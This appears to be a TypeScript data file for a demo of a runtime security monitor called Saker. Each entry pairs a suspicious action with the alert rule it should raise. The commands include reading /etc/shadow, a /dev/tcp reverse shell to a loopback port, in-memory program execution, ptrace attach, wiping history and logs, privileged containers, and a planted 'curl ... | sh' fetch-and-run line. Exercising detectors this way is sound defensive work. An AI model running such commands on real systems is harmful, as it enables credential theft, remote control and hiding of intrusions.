/**
 * The acts of the demo, as data: what somebody does, and the one rule that must raise one alert for it.
 *
 * `script` runs in the scope that Saker watches; `prepare` and `cleanup` run outside of it, so that they raise nothing.
 * The shell finds in its environment: DEMO a private directory, ID a name nobody else uses, ACTOR the compiled actor.c,
 * PORT a listener on the loopback address, DOCKER the client of the demo's own engine with its options, IMAGE its image.
 */
export type Act = {
  readonly title: string
  readonly rule: string
  readonly script: string
  /** What to print in place of the script, where the script has scaffolding. */
  readonly shown?: string
  readonly prepare?: string
  readonly cleanup?: string
}

/** Starts the long-lived program of one of the acts; it must be older than the time that the rule grants a start-up. */
export const beforehand = 'cp "$ACTOR" "$DEMO/nginx"; "$DEMO/nginx" read-late "$DEMO/go" /etc/shadow >/dev/null 2>&1 &'

export const onHost: readonly Act[] = [
  {
    title: 'Reads the password hashes',
    rule: 'Sensitive file read by an untrusted program',
    script: 'cat /etc/shadow >/dev/null',
  },
  {
    title: 'Keeps a second name for the password hashes',
    rule: 'Hard link to a sensitive file',
    script: 'ln /etc/shadow "$DEMO/hard"',
    shown: 'ln /etc/shadow hard',
  },
  {
    title: 'Leads a harmless name to the password hashes',
    rule: 'Symbolic link to a sensitive file',
    script: 'ln -s /etc/shadow "$DEMO/soft"',
    shown: 'ln -s /etc/shadow soft',
  },
  {
    title: 'Adds a program that others will run',
    rule: 'File in a binary directory opened for writing',
    script: 'cp /bin/true /usr/local/bin/saker-demo-$ID',
    cleanup: 'rm -f /usr/local/bin/saker-demo-$ID',
  },
  {
    title: 'Takes a program away',
    rule: 'Program in a binary directory removed or replaced',
    prepare: 'cp /bin/true /usr/local/bin/saker-demo-$ID',
    script: 'rm /usr/local/bin/saker-demo-$ID',
    cleanup: 'rm -f /usr/local/bin/saker-demo-$ID',
  },
  {
    title: 'Changes the configuration of the system',
    rule: 'File below etc opened for writing',
    script: 'echo "saker demo" >/etc/saker-demo-$ID.conf',
    cleanup: 'rm -f /etc/saker-demo-$ID.conf',
  },
  {
    title: 'Drops a file into the root directory',
    rule: 'File below the root directory opened for writing',
    script: 'echo "saker demo" >/saker-demo-$ID',
    cleanup: 'rm -f /saker-demo-$ID',
  },
  {
    title: 'Wipes the list of typed commands',
    rule: 'Shell history deleted or renamed',
    prepare: 'echo "curl http://192.0.2.1/x | sh" >"$DEMO/.bash_history"',
    script: 'rm "$DEMO/.bash_history"',
    shown: 'rm .bash_history',
  },
  {
    title: 'Empties a log',
    rule: 'Log file cleared',
    prepare: 'mkdir -p /var/log/apt; echo "saker demo" >/var/log/apt/saker-demo-$ID.log',
    script: ': >/var/log/apt/saker-demo-$ID.log',
    cleanup: 'rm -f /var/log/apt/saker-demo-$ID.log',
  },
  {
    title: 'Runs a program from shared memory',
    rule: 'Program run from shared memory',
    prepare: 'cp /bin/true /dev/shm/saker-demo-$ID',
    script: '/dev/shm/saker-demo-$ID',
    cleanup: 'rm -f /dev/shm/saker-demo-$ID',
  },
  {
    title: 'Runs a program that is on no disk',
    rule: 'Program run from memory',
    script: '"$ACTOR" memfd /bin/true',
    shown: 'memfd_create, then execute /bin/true from it',
  },
  {
    title: 'Takes control of another process',
    rule: 'Process attached with ptrace',
    script: 'sleep 5 & "$ACTOR" attach $!; kill $!',
    shown: 'sleep 5 & ptrace(PTRACE_ATTACH, $!)',
  },
  {
    title: 'Opens a reverse shell',
    rule: 'Standard streams redirected to the network',
    script: 'bash -c "exec bash <>/dev/tcp/127.0.0.1/$PORT >&0"',
    shown: 'bash -c "exec bash <>/dev/tcp/127.0.0.1/PORT >&0"',
  },
  {
    title: 'Leaves by SSH through the port of HTTPS',
    rule: 'SSH connection to an unusual port',
    prepare: 'cp "$ACTOR" "$DEMO/ssh"',
    script: '"$DEMO/ssh" connect 443',
    shown: 'ssh -p 443 192.0.2.1',
  },
  {
    title: 'A hijacked web server reads the password hashes',
    rule: 'Sensitive file read by a trusted program after start-up',
    script: 'touch "$DEMO/go"; while pgrep -f "$DEMO/nginx" >/dev/null; do sleep 0.1; done',
    shown: 'nginx, six seconds after its start: open("/etc/shadow")',
  },
]

export const inContainer: readonly Act[] = [
  {
    title: 'Opens a shell with a terminal in a container',
    rule: 'Terminal shell in a container',
    script: '$DOCKER run --rm --tty --net=none $IMAGE sh -c true',
    shown: 'docker run --tty IMAGE sh',
  },
  {
    title: 'Runs a program that the image does not bring',
    rule: 'Program dropped into a container and run',
    script: '$DOCKER run --rm --net=none $IMAGE sh -c "cp /bin/busybox /tmp/dropped; /tmp/dropped true"',
    shown: 'docker run IMAGE sh -c "cp /bin/busybox /tmp/dropped; /tmp/dropped"',
  },
  {
    title: 'Starts a container with the rights of the host',
    rule: 'Privileged container started',
    // Where root itself lacks a capability no container can have them all: then the three that matter.
    script:
      '$DOCKER run --rm --privileged --net=none $IMAGE true || ' +
      '$DOCKER run --rm --cap-add SYS_ADMIN --cap-add SYS_MODULE --cap-add SYS_RAWIO --net=none $IMAGE true',
    shown: 'docker run --privileged IMAGE',
  },
  {
    title: 'Gives a container the configuration of the host',
    rule: 'Container started with a sensitive mount',
    script: '$DOCKER run --rm --volume /etc:/host:ro --net=none $IMAGE true',
    shown: 'docker run --volume /etc:/host IMAGE',
  },
]
